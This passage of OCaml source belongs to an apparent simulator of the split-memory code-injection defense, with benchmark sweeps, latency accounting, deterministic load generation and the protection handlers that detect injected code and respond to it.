    "\"" ^ String.concat "\"\"" (String.split_on_char '"' s) ^ "\""
  else s

let csv ~header rows =
  let buf = Buffer.create 256 in
  let line cells =
    Buffer.add_string buf (String.concat "," (List.map csv_cell cells));
    Buffer.add_char buf '\n'
  in
  line header;
  List.iter line rows;
  Buffer.contents buf

(* ASCII heatmap: one row per y-label, one glyph per x-bucket, intensity
   scaled to the global peak so relative hotness is comparable across
   rows. The glyph ramp is fixed; a count of zero renders as ['.'] so the
   grid shape stays visible. *)
let heat_ramp = [| '.'; ':'; '-'; '='; '+'; '*'; '#'; '@' |]

let heatmap ~title ~xlabel ~rows =
  let buf = Buffer.create 256 in
  Buffer.add_string buf (title ^ "\n");
  let label_w =
    List.fold_left (fun acc (label, _) -> max acc (String.length label)) 0 rows
  in
  let peak =
    List.fold_left
      (fun acc (_, cells) -> Array.fold_left max acc cells)
      0 rows
  in
  List.iter
    (fun (label, cells) ->
      Buffer.add_string buf (Fmt.str "  %s  " (pad label_w label));
      Array.iter
        (fun n ->
          let g =
            if n <= 0 || peak <= 0 then heat_ramp.(0)
            else
              let i = 1 + (n * (Array.length heat_ramp - 2) / peak) in
              heat_ramp.(min i (Array.length heat_ramp - 1))
          in
          Buffer.add_char buf g)
        cells;
      Buffer.add_char buf '\n')
    rows;
  Buffer.add_string buf
    (Fmt.str "  %s  %s\n" (String.make label_w ' ') xlabel);
  Buffer.add_string buf
    (Fmt.str "  scale: %s = 0 .. %c = %d\n"
       (String.make 1 heat_ramp.(0))
       heat_ramp.(Array.length heat_ramp - 1)
       peak);
  Buffer.contents buf
