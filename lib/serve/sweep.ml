(* The concurrency sweep: fan (defense x concurrency) serving machines
   over Fleet, locate each defense's throughput knee — the lowest
   concurrency achieving >= 97% of that defense's peak — then re-run K
   repetitions at the knee under fresh seeds and report knee throughput
   plus latency percentiles. Results come back in submission order, so
   the rendered table is bit-identical for every [jobs] value. *)

let knee_threshold = 0.97

(* Lowest-concurrency point within [threshold] of the curve's peak.
   Pure, for the synthetic-curve unit tests: [points] are
   (concurrency, throughput) in ascending concurrency order. *)
let knee ?(threshold = knee_threshold) points =
  match points with
  | [] -> invalid_arg "Sweep.knee: empty curve"
  | _ ->
    let peak = List.fold_left (fun acc (_, v) -> max acc v) neg_infinity points in
    fst (List.find (fun (_, v) -> v >= threshold *. peak) points)

type curve = {
  defense : Defense.t;
  name : string;
  points : (int * Scenario.outcome) list;  (* ascending concurrency *)
  peak : float;
  knee_concurrency : int;
  reps : Scenario.outcome list;  (* repetitions at the knee, fresh seeds *)
  knee_throughput : float;  (* median of the repetitions *)
  knee_lat : Latency.summary;  (* pooled over the repetitions' samples *)
}

type t = {
  curves : curve list;
  concurrencies : int list;
  requests : int;
  reps_n : int;
  model : Loadgen.model;
  failures : string list;
}

let default_defenses () =
  [
    Defense.unprotected;
    Defense.nx;
    Defense.split_standalone;
    Defense.cfi;
    Defense.split_plus_cfi;
  ]

let median xs =
  match List.sort compare xs with
  | [] -> 0.0
  | s ->
    let n = List.length s in
    let a = Array.of_list s in
    if n mod 2 = 1 then a.(n / 2) else (a.((n / 2) - 1) +. a.(n / 2)) /. 2.0

let pool_latency outcomes =
  let lat = Latency.create () in
  List.iter
    (fun (o : Scenario.outcome) -> Array.iter (Latency.record lat) o.Scenario.samples)
    outcomes;
  Latency.summary lat

let run ?obs ?jobs ?(defenses = default_defenses ()) ?(concurrencies = [ 1; 2; 4; 8 ])
    ?(reps = 3) ?(requests = 24) ?(model = Loadgen.Closed { think = 60_000 })
    ?(resp_size = 2048) ?(ws_pages = 8) ?(theta = 1.0) ?(seed = 1) () =
  if concurrencies = [] then invalid_arg "Sweep.run: no concurrencies";
  let mk defense concurrency seed =
    Scenario.config ~defense ~concurrency ~requests ~model ~resp_size ~ws_pages ~theta
      ~seed ()
  in
  (* phase 1: the full (defense x concurrency) grid *)
  let grid =
    List.concat_map (fun d -> List.map (fun c -> mk d c seed) concurrencies) defenses
  in
  let label (c : Scenario.config) = Fmt.str "%s/c%d" (Defense.name c.defense) c.concurrency in
  let sweep_results, sweep_stats =
    Fleet.map_stats ?obs ?jobs ~label Scenario.run grid
  in
  ignore (sweep_stats : Fleet.stats);
  let failures = ref [] in
  let cell = function
    | Ok o -> Some o
    | Error (e : Fleet.error) ->
      failures := Fmt.str "%s: %s" e.label e.reason :: !failures;
      None
  in
  let cells = List.map cell sweep_results in
  let ncs = List.length concurrencies in
  let curve_points d_idx =
    List.filteri (fun i _ -> i / ncs = d_idx) cells
    |> List.map2 (fun c o -> Option.map (fun o -> (c, o)) o) concurrencies
    |> List.filter_map Fun.id
  in
  (* phase 2: knee repetitions, all defenses fanned in one fleet *)
  let knees =
    List.mapi
      (fun i d ->
        match curve_points i with
        | [] -> (d, None)
        | pts ->
          let k =
            knee (List.map (fun (c, (o : Scenario.outcome)) -> (c, o.throughput)) pts)
          in
          (d, Some (k, pts)))
      defenses
  in
  let rep_jobs =
    List.concat_map
      (fun (d, k) ->
        match k with
        | None -> []
        | Some (kc, _) -> List.init reps (fun r -> mk d kc (seed + 1 + r)))
      knees
  in
  let rep_results, _ = Fleet.map_stats ?obs ?jobs ~label Scenario.run rep_jobs in
  let rep_cells = List.map cell rep_results in
  let curves =
    let rest = ref rep_cells in
    List.filter_map
      (fun (d, k) ->
        match k with
        | None -> None
        | Some (kc, pts) ->
          let mine = List.filteri (fun i _ -> i < reps) !rest in
          rest := List.filteri (fun i _ -> i >= reps) !rest;
          let reps_ok = List.filter_map Fun.id mine in
          let peak =
            List.fold_left
              (fun acc (_, (o : Scenario.outcome)) -> max acc o.throughput)
              0.0 pts
          in
          Some
            {
              defense = d;
              name = Defense.name d;
              points = pts;
              peak;
              knee_concurrency = kc;
              reps = reps_ok;
              knee_throughput =
                median (List.map (fun (o : Scenario.outcome) -> o.throughput) reps_ok);
              knee_lat = pool_latency reps_ok;
            })
      knees
  in
  {
    curves;
    concurrencies;
    requests;
    reps_n = reps;
    model;
    failures = List.rev !failures;
  }

(* --- rendering ----------------------------------------------------------- *)

let cycles_opt = function None -> "-" | Some v -> string_of_int v

let render ?(knee_only = false) t =
  let b = Buffer.create 1024 in
  if not knee_only then begin
    let curve_rows =
      List.map
        (fun cv ->
          cv.name
          :: List.map
               (fun c ->
                 match List.assoc_opt c cv.points with
                 | Some (o : Scenario.outcome) -> Fmt.str "%.2f" o.throughput
                 | None -> "-")
               t.concurrencies)
        t.curves
    in
    Buffer.add_string b
      (Report.table
         ~title:
           (Fmt.str "serving throughput vs concurrency (req/Mcyc, %s, %d req/client)"
              (Loadgen.model_name t.model) t.requests)
         ~header:("defense" :: List.map (fun c -> Fmt.str "c=%d" c) t.concurrencies)
         curve_rows);
    Buffer.add_char b '\n'
  end;
  let knee_rows =
    List.map
      (fun cv ->
        [
          cv.name;
          string_of_int cv.knee_concurrency;
          Fmt.str "%.2f" cv.knee_throughput;
          cycles_opt cv.knee_lat.Latency.p50;
          cycles_opt cv.knee_lat.Latency.p95;
          cycles_opt cv.knee_lat.Latency.p99;
          cycles_opt cv.knee_lat.Latency.p999;
        ])
      t.curves
  in
  Buffer.add_string b
    (Report.table
       ~title:
         (Fmt.str "fig: serving knee per defense (>=%d%% of peak, %d reps)"
            (int_of_float (knee_threshold *. 100.0))
            t.reps_n)
       ~header:[ "defense"; "knee"; "req/Mcyc"; "p50"; "p95"; "p99"; "p999" ]
       knee_rows);
  List.iter (fun f -> Buffer.add_string b (Fmt.str "FAILED %s\n" f)) t.failures;
  Buffer.contents b
