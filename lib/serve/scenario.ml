(* One serving machine: [concurrency] server/client pairs wired through
   the kernel's pipes, clients replaying Loadgen schedules, per-request
   latency captured from the syscall tracer. A request's clock starts
   when the client's 4-byte request write returns and stops when the
   client has drained the full response — so the measurement spans
   queueing at the server, service, and both pipe crossings, exactly the
   span a real client times. *)

module H = Workload.Harness
module G = Workload.Guests

type config = {
  defense : Defense.t;
  concurrency : int;  (* server/client pairs on the machine *)
  requests : int;  (* per client *)
  model : Loadgen.model;
  resp_size : int;  (* response bytes per request *)
  ws_pages : int;  (* popularity working set of each server *)
  theta : float;  (* Zipf skew *)
  seed : int;
}

let config ?(defense = Defense.split_standalone) ?(concurrency = 1) ?(requests = 32)
    ?(model = Loadgen.Closed { think = 60_000 }) ?(resp_size = 2048) ?(ws_pages = 8)
    ?(theta = 1.0) ?(seed = 1) () =
  { defense; concurrency; requests; model; resp_size; ws_pages; theta; seed }

type outcome = {
  label : string;
  defense_name : string;
  concurrency : int;
  offered : int;  (* requests scheduled across all clients *)
  completed : int;  (* requests whose response was fully drained *)
  cycles : int;
  throughput : float;  (* completed requests per million cycles *)
  lat : Latency.summary;
  samples : int array;  (* latency reservoir, for cross-rep aggregation *)
  result : H.result;
}

let spec (c : config) =
  let mode = match c.model with Loadgen.Closed _ -> `Closed | Loadgen.Open _ -> `Open in
  let guests =
    List.concat
      (List.init c.concurrency (fun i ->
           let schedule =
             Loadgen.schedule ~theta:c.theta ~ws_pages:c.ws_pages ~model:c.model
               ~requests:c.requests ~seed:c.seed ~client:i ()
           in
           [
             H.guest (G.serve_server ~ws_pages:c.ws_pages ~size:c.resp_size ());
             H.guest (G.serve_client ~mode ~size:c.resp_size ~schedule ());
           ]))
  in
  H.spec
    ~label:
      (Fmt.str "serve-%s-c%d-%s" (Defense.name c.defense) c.concurrency
         (Loadgen.model_name c.model))
    ~defense:c.defense ~seed:c.seed ~share_images:true
    ~wiring:(H.Pipeline { capacity = None })
    guests

(* Per-client request state machine fed by the syscall tracer. *)
type client_state = { mutable started : int; mutable remaining : int }

let run ?(obs = Obs.null) (c : config) =
  let s = spec c in
  let lat = Latency.create ~seed:c.seed () in
  let c_req = Obs.counter obs "serve.requests" in
  let h_lat = Obs.histogram obs "serve.latency_cycles" in
  let tune k =
    let cost = Kernel.Os.cost k in
    let clients : (int, client_state) Hashtbl.t = Hashtbl.create 16 in
    List.iter
      (fun (p : Kernel.Proc.t) ->
        if p.name = "serve-client" then
          Hashtbl.replace clients p.pid { started = 0; remaining = 0 })
      (Kernel.Machine.procs (Kernel.Os.machine k));
    Kernel.Os.set_syscall_tracer k
      (Some
         (fun (tr : Kernel.Machine.syscall_trace) ->
           match Hashtbl.find_opt clients tr.sys_pid with
           | None -> ()
           | Some st -> (
             match (tr.sys_number, tr.sys_outcome) with
             | 4, Kernel.Machine.Returned n when n > 0 ->
               (* request released: the clock starts as the write returns *)
               if st.remaining <= 0 then begin
                 st.started <- cost.Hw.Cost.cycles;
                 st.remaining <- c.resp_size
               end
             | 3, Kernel.Machine.Returned n when n > 0 && st.remaining > 0 ->
               st.remaining <- st.remaining - n;
               if st.remaining <= 0 then begin
                 let d = cost.Hw.Cost.cycles - st.started in
                 Latency.record lat d;
                 Obs.Metrics.incr c_req;
                 Obs.Metrics.observe h_lat d;
                 st.remaining <- 0
               end
             | _ -> ())))
  in
  let result, _k = H.run_k ~obs ~tune s in
  let completed = Latency.count lat in
  let samples = Array.sub lat.Latency.reservoir 0 (min completed lat.Latency.capacity) in
  {
    label = s.H.label;
    defense_name = Defense.name c.defense;
    concurrency = c.concurrency;
    offered = c.concurrency * c.requests;
    completed;
    cycles = result.H.cycles;
    throughput =
      (if result.H.cycles = 0 then 0.0
       else float_of_int completed *. 1_000_000.0 /. float_of_int result.H.cycles);
    lat = Latency.summary lat;
    samples;
    result;
  }
