(* Per-request latency accounting: a bounded algorithm-R reservoir for
   percentile estimation plus a pow2 histogram (the Obs.Metrics bucket
   convention) for shape reporting. Reservoir replacement draws from its
   own splitmix64 stream, so recording is deterministic and independent
   of fleet scheduling. *)

type t = {
  capacity : int;
  reservoir : int array;
  mutable count : int;  (* total samples offered *)
  mutable sum : int;
  mutable max : int;
  buckets : int array;  (* pow2: bucket 0 = <=0, bucket k = [2^(k-1), 2^k) *)
  rng : Loadgen.Prng.t;
}

let create ?(capacity = 4096) ?(seed = 7) () =
  if capacity <= 0 then invalid_arg "Latency.create: capacity must be positive";
  {
    capacity;
    reservoir = Array.make capacity 0;
    count = 0;
    sum = 0;
    max = 0;
    buckets = Array.make 63 0;
    rng = Loadgen.Prng.make seed;
  }

let bucket_of v =
  if v <= 0 then 0
  else
    let rec go k n = if n = 0 then k else go (k + 1) (n lsr 1) in
    go 0 v

let record t v =
  let b = min (bucket_of v) (Array.length t.buckets - 1) in
  t.buckets.(b) <- t.buckets.(b) + 1;
  t.sum <- t.sum + v;
  if v > t.max then t.max <- v;
  if t.count < t.capacity then t.reservoir.(t.count) <- v
  else begin
    (* algorithm R: keep each of the n samples with probability cap/n *)
    let j = Loadgen.Prng.int t.rng (t.count + 1) in
    if j < t.capacity then t.reservoir.(j) <- v
  end;
  t.count <- t.count + 1

let count t = t.count

let mean t = if t.count = 0 then None else Some (float_of_int t.sum /. float_of_int t.count)

(* Nearest-rank percentile over the reservoir (exact while the sample
   count is within capacity). [None] when nothing was recorded — the
   zero-request guard, so reports render "-" instead of NaN, matching the
   [Report.percent] convention. *)
let percentile t p =
  if t.count = 0 then None
  else begin
    let n = min t.count t.capacity in
    let sorted = Array.sub t.reservoir 0 n in
    Array.sort compare sorted;
    let rank = int_of_float (ceil (p /. 100.0 *. float_of_int n)) in
    Some sorted.(max 0 (min (n - 1) (rank - 1)))
  end

type summary = {
  requests : int;
  p50 : int option;
  p95 : int option;
  p99 : int option;
  p999 : int option;
  lat_max : int option;
}

let summary t =
  {
    requests = t.count;
    p50 = percentile t 50.0;
    p95 = percentile t 95.0;
    p99 = percentile t 99.0;
    p999 = percentile t 99.9;
    lat_max = (if t.count = 0 then None else Some t.max);
  }

(* Histogram buckets with at least one hit, as (lower-bound, count) —
   feeds [Report.dist]. *)
let hist t =
  let out = ref [] in
  Array.iteri
    (fun k c ->
      if c > 0 then
        let lo = if k = 0 then 0 else 1 lsl (k - 1) in
        out := (lo, c) :: !out)
    t.buckets;
  List.rev !out
