(* Deterministic synthetic traffic: a private splitmix64 stream drives a
   Zipf page-popularity sampler and per-client request schedules. Every
   schedule is a pure function of (seed, client index, parameters), so a
   sweep renders bit-identically at any fleet width and any repetition —
   the property the serving gate byte-diffs. *)

(* splitmix64, same construction as the injector's private PRNG:
   one int64 of state, stable across OCaml versions, and incapable of
   colliding with the kernel's [Random.State]. *)
module Prng = struct
  type t = { mutable s : int64 }

  let gamma = 0x9E3779B97F4A7C15L

  let make seed = { s = Int64.mul (Int64.of_int (seed + 1)) gamma }

  let next t =
    t.s <- Int64.add t.s gamma;
    let z = t.s in
    let z =
      Int64.mul (Int64.logxor z (Int64.shift_right_logical z 30)) 0xBF58476D1CE4E5B9L
    in
    let z =
      Int64.mul (Int64.logxor z (Int64.shift_right_logical z 27)) 0x94D049BB133111EBL
    in
    Int64.logxor z (Int64.shift_right_logical z 31)

  let int t bound =
    if bound <= 0 then invalid_arg "Prng.int: bound must be positive";
    Int64.to_int (Int64.rem (Int64.shift_right_logical (next t) 1) (Int64.of_int bound))
end

(* Zipf(theta) over ranks 0..n-1 via an integer cumulative-weight table:
   floats touch only the table build (truncated, floored at 1), so
   sampling is pure integer arithmetic on the splitmix64 stream and the
   frequency of rank r is monotone non-increasing in r by construction. *)
module Zipf = struct
  type t = { cum : int array; total : int }

  let scale = float_of_int (1 lsl 20)

  let make ?(theta = 1.0) n =
    if n <= 0 then invalid_arg "Zipf.make: need at least one rank";
    let cum = Array.make n 0 in
    let total = ref 0 in
    for r = 0 to n - 1 do
      let w = max 1 (int_of_float (scale /. (float_of_int (r + 1) ** theta))) in
      total := !total + w;
      cum.(r) <- !total
    done;
    { cum; total = !total }

  let ranks t = Array.length t.cum

  let sample t rng =
    let u = Prng.int rng t.total in
    (* first rank whose cumulative weight exceeds the draw *)
    let lo = ref 0 and hi = ref (Array.length t.cum - 1) in
    while !lo < !hi do
      let mid = (!lo + !hi) / 2 in
      if t.cum.(mid) > u then hi := mid else lo := mid + 1
    done;
    !lo
end

(* --- request schedules --------------------------------------------------- *)

type model =
  | Closed of { think : int }  (* sleep [think]-ish cycles between requests *)
  | Open of { period : int }  (* release a request every [period] cycles *)

let model_name = function Closed _ -> "closed" | Open _ -> "open"

(* The schedule a [Guests.serve_client] replays: one (page byte offset,
   pace) pair per request. Closed-loop paces jitter uniformly in
   [think/2, 3*think/2) so wake-ups spread over the quantum lattice;
   open-loop paces are absolute release cycles on a fixed period with a
   per-client phase in [0, period) desynchronizing the fleet. *)
let schedule ?(theta = 1.0) ?(ws_pages = 8) ~model ~requests ~seed ~client () =
  if requests <= 0 then invalid_arg "Loadgen.schedule: need at least one request";
  let rng = Prng.make ((seed * 0x10001) + (client * 0x101)) in
  let zipf = Zipf.make ~theta ws_pages in
  let phase = match model with Open { period } -> Prng.int rng period | Closed _ -> 0 in
  Array.init requests (fun i ->
      let page = Zipf.sample zipf rng * 4096 in
      let pace =
        match model with
        | Closed { think } ->
          if think <= 0 then 0 else (think / 2) + Prng.int rng (max 1 think)
        | Open { period } -> phase + (i * period)
      in
      (page, pace))

(* Canonical rendering of a schedule, used by the determinism property
   tests ("byte-identical across runs and sweeps") and nothing else. *)
let to_string sched =
  Array.to_list sched
  |> List.map (fun (page, pace) -> Fmt.str "%d:%d" page pace)
  |> String.concat ","
