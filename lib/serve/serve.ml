(* Library interface: deterministic traffic generation (Loadgen), latency
   accounting (Latency), the single-machine serving scenario (Scenario,
   re-exported at the top level) and the concurrency sweep with knee
   analysis (Sweep). *)

module Loadgen = Loadgen
module Latency = Latency
module Scenario = Scenario
module Sweep = Sweep

include Scenario
