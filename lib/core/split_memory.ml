module Policy = Policy
module Response = Response
module Splitter = Splitter

type mechanism = Tlb_desync | Soft_tlb | Dual_cr3

let mechanism_name = function
  | Tlb_desync -> "tlb-desync"
  | Soft_tlb -> "soft-tlb"
  | Dual_cr3 -> "dual-cr3"

type itlb_load = Single_step | Ret_gadget

(* Desync audit (the lib/inject TLB guard routes here): is a cached TLB
   entry one this defense could legitimately have loaded for this PTE?
   Split pages are *deliberately* desynced — the cached user bit disagrees
   with the (supervisor-restricted) PTE by design — so the invariants are:
   frame routing (fetches hit the code copy, data accesses the data copy),
   user always true (every split fill happens through an unrestricted PTE
   or a forced user=1 load), and writable/nx mirroring the PTE (Algorithm
   1's window never varies them). Non-split pages have no such window: a
   surviving entry must mirror the live PTE exactly (every legitimate PTE
   change invlpgs or flushes). *)
let entry_consistent ~access (pte : Kernel.Pte.t option) (e : Hw.Tlb.entry) =
  match pte with
  | None -> false (* phantom: no mapping behind the cached translation *)
  | Some pte ->
    if Kernel.Pte.is_split pte then
      let want =
        match access with
        | Hw.Mmu.Fetch -> Kernel.Pte.code_frame pte
        | Hw.Mmu.Read | Hw.Mmu.Write -> Kernel.Pte.data_frame pte
      in
      e.frame = want && e.user && e.writable = pte.writable && e.nx = pte.nx
    else
      pte.present && e.frame = pte.frame && e.user = pte.user
      && e.writable = pte.writable && e.nx = pte.nx

let protection ?(policy = Policy.All_pages) ?(response = Response.Break) ?(nx = false)
    ?(mechanism = Tlb_desync) ?(itlb_load = Single_step) () : Kernel.Protection.t =
  let page_size ctx = Hw.Phys.page_size ctx.Kernel.Protection.phys in
  let pte_of (proc : Kernel.Proc.t) ctx addr =
    Kernel.Aspace.pte proc.aspace (addr / page_size ctx)
  in

  let on_page_mapped (ctx : Kernel.Protection.ctx) _proc (region : Kernel.Aspace.region) (pte : Kernel.Pte.t) =
    if Policy.should_split policy region ~vpn:pte.vpn then begin
      Splitter.split_page ~restrict:(mechanism = Tlb_desync) ctx pte;
      (* with dedicated CR3-C/CR3-D hardware the split view is applied by
         the walkers; newly mapped pages need the current views reloaded
         only if the PTE pre-dates the CR3 load, which invlpg covers *)
      if mechanism = Dual_cr3 then Hw.Mmu.invlpg ctx.mmu pte.vpn
    end
    else if nx && not region.execable then pte.nx <- true
  in

  (* Software-managed-TLB routing (paper S4.7): the TLB-miss handler simply
     loads the correct copy for the access kind — no supervisor-bit games,
     no single-stepping. *)
  let on_tlb_fill (ctx : Kernel.Protection.ctx) (proc : Kernel.Proc.t) (f : Hw.Mmu.fault)
      (pte : Kernel.Pte.t) =
    if Splitter.is_active_split pte then begin
      (* the handler's extra work: test the split bit, pick the copy *)
      Hw.Cost.charge ctx.cost 25;
      Obs.count ctx.obs "split.tlb_routes";
      let s = Option.get pte.split in
      let frame =
        match f.access with
        | Hw.Mmu.Fetch -> s.code_frame
        | Hw.Mmu.Read | Hw.Mmu.Write -> s.data_frame
      in
      Kernel.Protection.Fill
        { vpn = pte.vpn; frame; user = true; writable = pte.writable; nx = false }
    end
    else if nx && pte.nx && f.access = Hw.Mmu.Fetch then begin
      proc.detections <- proc.detections + 1;
      Kernel.Event_log.add ctx.log
        (Kernel.Event_log.Injection_detected { pid = proc.pid; eip = f.addr; mode = "nx" });
      Kernel.Protection.Deny_fill
    end
    else Kernel.Protection.Default_fill
  in

  (* Algorithm 1: the split-memory page-fault handler. *)
  let on_protection_fault (ctx : Kernel.Protection.ctx) (proc : Kernel.Proc.t) (f : Hw.Mmu.fault) =
    match pte_of proc ctx f.addr with
    | Some pte when Splitter.is_active_split pte && (not pte.user) && f.from_user ->
      let since = ctx.cost.cycles in
      Hw.Cost.charge_split_pf ctx.cost;
      let s = Option.get pte.split in
      let result =
        match f.access with
        | Hw.Mmu.Fetch -> (
          pte.frame <- s.code_frame;
          Kernel.Pte.unrestrict pte;
          match itlb_load with
          | Single_step ->
            (* Code access: single-step the restarted instruction so the
               ITLB gets filled; the debug-interrupt handler re-restricts. *)
            proc.pending_fault_addr <- Some f.addr;
            proc.regs.tf <- true;
            if Obs.enabled ctx.obs then
              Obs.span_begin ctx.obs
                ~key:("ss:" ^ string_of_int proc.pid)
                ~cat:"split" "split.single_step"
                ~args:[ ("addr", Obs.Json.Str (Fmt.str "0x%08x" f.addr)) ];
            Kernel.Protection.Handled
          | Ret_gadget ->
            (* The paper's discarded alternative (S4.2.4): plant a ret at the
               end of the code copy, "call" it to fill the ITLB, restore the
               byte. Both stores hit icache lines and pay the coherency
               penalty — which is why the paper found this slower. *)
            let psz = page_size ctx in
            let off = psz - 1 in
            let saved = Hw.Phys.read8 ctx.phys ~frame:s.code_frame ~off in
            Hw.Mmu.kernel_code_write ctx.mmu ~frame:s.code_frame ~off 0x32;
            ignore (Hw.Mmu.fetch8 ctx.mmu ~from_user:true ((f.addr / psz * psz) + off));
            Hw.Mmu.kernel_code_write ctx.mmu ~frame:s.code_frame ~off saved;
            Kernel.Pte.restrict pte;
            Kernel.Protection.Handled)
        | Hw.Mmu.Read | Hw.Mmu.Write ->
          (* Data access: pagetable walk — point at the data copy,
             unrestrict, touch a byte to load the DTLB, restrict again. *)
          pte.frame <- s.data_frame;
          Kernel.Pte.unrestrict pte;
          Hw.Mmu.touch_read ctx.mmu f.addr;
          Kernel.Pte.restrict pte;
          Kernel.Protection.Handled
      in
      if Obs.enabled ctx.obs then
        Obs.complete ctx.obs ~cat:"split" ~since
          (match f.access with
          | Hw.Mmu.Fetch -> "split.alg1_fetch"
          | Hw.Mmu.Read | Hw.Mmu.Write -> "split.alg1_data")
          ~args:
            [ ("pid", Obs.Json.Int proc.pid);
              ("addr", Obs.Json.Str (Fmt.str "0x%08x" f.addr)) ];
      result
    | Some pte when nx && pte.nx && f.access = Hw.Mmu.Fetch ->
      (* The execute-disable bit caught a fetch from a non-split data
         page (combined deployment mode). *)
      Kernel.Event_log.add ctx.log
        (Kernel.Event_log.Injection_detected { pid = proc.pid; eip = f.addr; mode = "nx" });
      proc.detections <- proc.detections + 1;
      Kernel.Protection.Not_ours
    | Some _ | None -> Kernel.Protection.Not_ours
  in

  (* Algorithm 2: the debug-interrupt handler. *)
  let on_debug_trap (ctx : Kernel.Protection.ctx) (proc : Kernel.Proc.t) =
    match proc.pending_fault_addr with
    | None -> false
    | Some addr ->
      Hw.Cost.charge_single_step ctx.cost;
      (match pte_of proc ctx addr with
      | Some pte when Splitter.is_active_split pte -> Kernel.Pte.restrict pte
      | Some _ | None -> ());
      proc.regs.tf <- false;
      proc.pending_fault_addr <- None;
      (if Obs.enabled ctx.obs then
         match
           Obs.span_end ctx.obs
             ~key:("ss:" ^ string_of_int proc.pid)
             ~cat:"split" "split.single_step"
         with
         | Some window ->
           Obs.Metrics.observe
             (Obs.histogram ctx.obs "split.single_step_window_cycles")
             window
         | None -> ());
      true
  in

  (* Algorithm 3 + response modes: the invalid-opcode (SIGILL) path fires
     when the processor fetched from a pristine code copy at an address the
     attacker thought held code. *)
  let on_invalid_opcode (ctx : Kernel.Protection.ctx) (proc : Kernel.Proc.t) ~eip ~opcode =
    ignore opcode;
    match pte_of proc ctx eip with
    | Some pte when Splitter.is_active_split pte -> (
      proc.detections <- proc.detections + 1;
      if Obs.enabled ctx.obs then begin
        Obs.count ctx.obs "split.detections";
        Obs.event ctx.obs ~cat:"split" "split.detection"
          ~args:
            [ ("pid", Obs.Json.Int proc.pid);
              ("eip", Obs.Json.Str (Fmt.str "0x%08x" eip));
              ("response", Obs.Json.Str (Response.name response)) ]
      end;
      Kernel.Event_log.add ctx.log
        (Kernel.Event_log.Injection_detected
           { pid = proc.pid; eip; mode = Response.name response });
      (* Clear the single-step bookkeeping left over from the ITLB load of
         the detection fetch. *)
      proc.pending_fault_addr <- None;
      proc.regs.tf <- false;
      match response with
      | Response.Break -> Kernel.Protection.Kill_process "code injection (break mode)"
      | Response.Recovery -> (
        match proc.recovery_handler with
        | None -> Kernel.Protection.Kill_process "code injection (recovery: no handler)"
        | Some handler ->
          (* hand the faulting EIP to the handler for diagnostics and
             transfer control; the handler must establish its own stack *)
          Hw.Cpu.set proc.regs Isa.Reg.EAX eip;
          proc.regs.eip <- handler;
          Kernel.Event_log.add ctx.log
            (Kernel.Event_log.Recovery_invoked
               { pid = proc.pid; handler; faulting_eip = eip });
          Kernel.Protection.Resume)
      | Response.Observe { sebek } ->
        Splitter.lock_to_data ctx pte;
        if sebek then proc.sebek_active <- true;
        Kernel.Protection.Resume
      | Response.Forensics { payload } -> (
        let psz = page_size ctx in
        let s = Option.get pte.split in
        let off = eip mod psz in
        let len = min 20 (psz - off) in
        let bytes =
          String.init len (fun i -> Char.chr (Hw.Phys.read8 ctx.phys ~frame:s.data_frame ~off:(off + i)))
        in
        Kernel.Event_log.add ctx.log (Kernel.Event_log.Shellcode_dump { pid = proc.pid; eip; bytes });
        (* the control-flow trail that led into the injected code *)
        let trail = Kernel.Proc.trace_trail proc in
        let tail =
          let n = List.length trail in
          List.filteri (fun i _ -> i >= n - 8) trail
        in
        Kernel.Event_log.add ctx.log
          (Kernel.Event_log.Execution_trail { pid = proc.pid; eips = tail });
        match payload with
        | None -> Kernel.Protection.Kill_process "code injection (forensics mode)"
        | Some code ->
          let base = eip / psz * psz in
          (* the code frame may be a loader-COW frame shared with sibling
             processes — privatize before overwriting it with the decoy *)
          let code_frame = Kernel.Frame_alloc.unshare ctx.alloc s.code_frame in
          if code_frame <> s.code_frame then begin
            if pte.frame = s.code_frame then pte.frame <- code_frame;
            pte.split <- Some { s with code_frame }
          end;
          Hw.Phys.blit_from_string ctx.phys ~frame:code_frame ~off:0 code;
          proc.regs.eip <- base;
          Hw.Mmu.invlpg ctx.mmu (eip / psz);
          Kernel.Event_log.add ctx.log
            (Kernel.Event_log.Forensic_injected { pid = proc.pid; new_eip = base });
          Kernel.Protection.Resume))
    | Some _ | None -> Kernel.Protection.Benign
  in

  {
    name =
      Fmt.str "split-memory(%s,%s%s%s)" (Policy.name policy) (Response.name response)
        (if nx then ",nx" else "")
        (match mechanism with
        | Tlb_desync -> ""
        | Soft_tlb -> ",soft-tlb"
        | Dual_cr3 -> ",dual-cr3");
    nx_hardware = nx;
    dual_pagetables = (mechanism = Dual_cr3);
    on_page_mapped;
    on_protection_fault;
    on_debug_trap;
    on_invalid_opcode;
    on_tlb_fill;
    ctrl_monitor = None;
  }
