(** Split memory: a virtual Harvard architecture on von Neumann hardware.

    This is the paper's contribution, packaged — like the original — as a
    patch against the operating system: a {!Kernel.Protection.t} whose
    handlers implement

    - page splitting at map time ({!Splitter}, §4.2.2 / §5.1),
    - Algorithm 1, the split page-fault handler (§4.2.3–4.2.4 / §5.2),
    - Algorithm 2, the debug-interrupt handler (§5.3),
    - Algorithm 3 and the break / observe / forensics response modes
      (§4.5 / §5.5).

    A process protected this way can still be made to {e inject} code into
    its address space, but the injected bytes land on a page's data copy
    while the processor fetches instructions exclusively from the pristine
    code copy — the injected code is unaddressable at fetch time. *)

module Policy = Policy
module Response = Response
module Splitter = Splitter

type mechanism =
  | Tlb_desync
      (** the x86 implementation: supervisor PTEs + Algorithms 1 and 2 *)
  | Soft_tlb
      (** the §4.7 port to software-managed-TLB architectures (SPARC):
          the OS's TLB-miss handler loads the correct copy directly *)
  | Dual_cr3
      (** the §3.3.1 hardware modification: one pagetable register for
          fetches (CR3-C) and one for data (CR3-D); the OS just maintains
          two views and the protection costs nothing at runtime *)

val mechanism_name : mechanism -> string

val entry_consistent :
  access:Hw.Mmu.access -> Kernel.Pte.t option -> Hw.Tlb.entry -> bool
(** Defense-side desync audit, consumed by lib/inject's TLB guard: could
    this defense legitimately have loaded [entry] for the given live PTE
    (None = the vpn is unmapped)? Split pages are deliberately desynced, so
    only frame routing is enforced (fetch → code copy, data → data copy);
    non-split pages must mirror the PTE exactly. [false] means the entry is
    corrupted or stale and must be dropped and refilled. *)

type itlb_load =
  | Single_step  (** Algorithm 2: trap flag + debug interrupt (the shipped method) *)
  | Ret_gadget
      (** the discarded §4.2.4 alternative: plant and call a [ret] on the
          code copy; slower in practice because the stores invalidate
          icache lines and flush the pipeline *)

val protection :
  ?policy:Policy.t ->
  ?response:Response.t ->
  ?nx:bool ->
  ?mechanism:mechanism ->
  ?itlb_load:itlb_load ->
